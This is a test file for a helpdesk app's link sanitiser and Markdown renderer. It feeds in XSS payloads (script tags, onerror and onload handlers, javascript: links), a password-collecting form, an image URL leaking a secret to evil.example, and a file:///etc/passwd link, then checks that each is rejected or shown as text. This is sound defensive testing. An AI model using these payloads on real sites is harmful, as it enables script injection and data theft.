import { UiProvider } from '@helpdesk/ui'
import { MemoryRouter } from '@helpdesk/ui/router'
import { render } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import { safeLink } from './links'
import { Markdown } from './Markdown'

const draw = (text: string) =>
  render(
    <UiProvider>
      <MemoryRouter>
        <main>
          <Markdown text={text} />
        </main>
      </MemoryRouter>
    </UiProvider>,
  ).container.querySelector('main') ?? document.body
const TICKET = '/tickets/11111111-1111-4111-8111-111111111111'

describe('safeLink', () => {
  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\nscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://a.example/x',
    'mailto:a@example.com',
    '//evil.example',
    '/\\evil.example',
    '/auth/login',
    '/tickets/../auth/logout',
    `${TICKET}/../x`,
    '#x',
    '',
    'https://',
    'https://good.example@evil.example/',
  ])('rejects %s', (address) => expect(safeLink(address)).toBeNull())
  it('accepts https, http and tickets', () => {
    expect(safeLink('https://a.example/x')).toEqual({
      kind: 'outside',
      href: 'https://a.example/x',
      host: 'a.example',
    })
    expect(safeLink('HTTP://a.example')?.kind).toBe('outside')
    expect(safeLink(TICKET)).toEqual({ kind: 'ticket', to: TICKET })
  })
})

describe('Markdown', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '<form action="https://evil.example"><input name=password></form>',
    '![x](https://evil.example/?leak=secret)',
    '![x](javascript:alert(1))',
    '[x](javascript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '<javascript:alert(1)>',
    'a[^1]\n\n[^1]: note <b onclick=alert(1)>x</b>',
    '- [ ] <input autofocus onfocus=alert(1)>',
  ])('renders %s as text', (text) => {
    const main = draw(text)
    expect(main.querySelector('script,img,svg,iframe,style,form,input,object,embed,link,meta,b')).toBeNull()
    for (const element of main.querySelectorAll('*'))
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^id$|^srcdoc$|^src$/)
        expect(value).not.toMatch(/javascript:|evil\.example/i)
      }
  })

  it('renders text, lists, tables, code and ticket links', () => {
    const main = draw(
      `# Title\n\nSome *words* and \`code\`\n\n- one\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n[Printer](${TICKET})`,
    )
    expect(main.querySelector('h1,h2,h3')).toBeNull()
    expect(main.querySelector('strong')).toHaveTextContent('Title')
    expect(main.querySelector('li')).toHaveTextContent('one')
    expect(main.querySelectorAll('td')).toHaveLength(2)
    expect(main.querySelector('a')).toHaveAttribute('href', TICKET)
    expect(main.querySelector('a')).not.toHaveAttribute('target')
  })

  it('renders rules, escaped marks and the alignment of columns', () => {
    const main = draw('\\*not italic\\*\n\n---\n\n| a | b |\n|---|--:|\n| 1\\|2 | 3 |')
    expect(main.querySelector('p')).toHaveTextContent('*not italic*')
    expect(main.querySelector('hr')).toBeInTheDocument()
    const [first, second] = main.querySelectorAll('td')
    expect(first).toHaveTextContent('1|2')
    expect(second).toHaveStyle({ textAlign: 'right' })
  })

  it('shows the host of an external link and sends no referrer', () => {
    const main = draw('[your bank](https://evil.example/login)')
    expect(main).toHaveTextContent('your bank (evil.example)')
    expect(main.querySelector('a')).toHaveAttribute('rel', 'noopener noreferrer nofollow')
    expect(draw('https://a.example/x').textContent).toBe('https://a.example/x')
  })

  it('renders 10,000 characters', () => {
    expect(draw('word '.repeat(2000)).textContent?.length).toBeGreaterThan(9_990)
  })
})

it('shows an answer that is nested without end as typed', () => {
  const text = '>'.repeat(9_990)
  expect(draw(text).textContent).toBe(text)
})
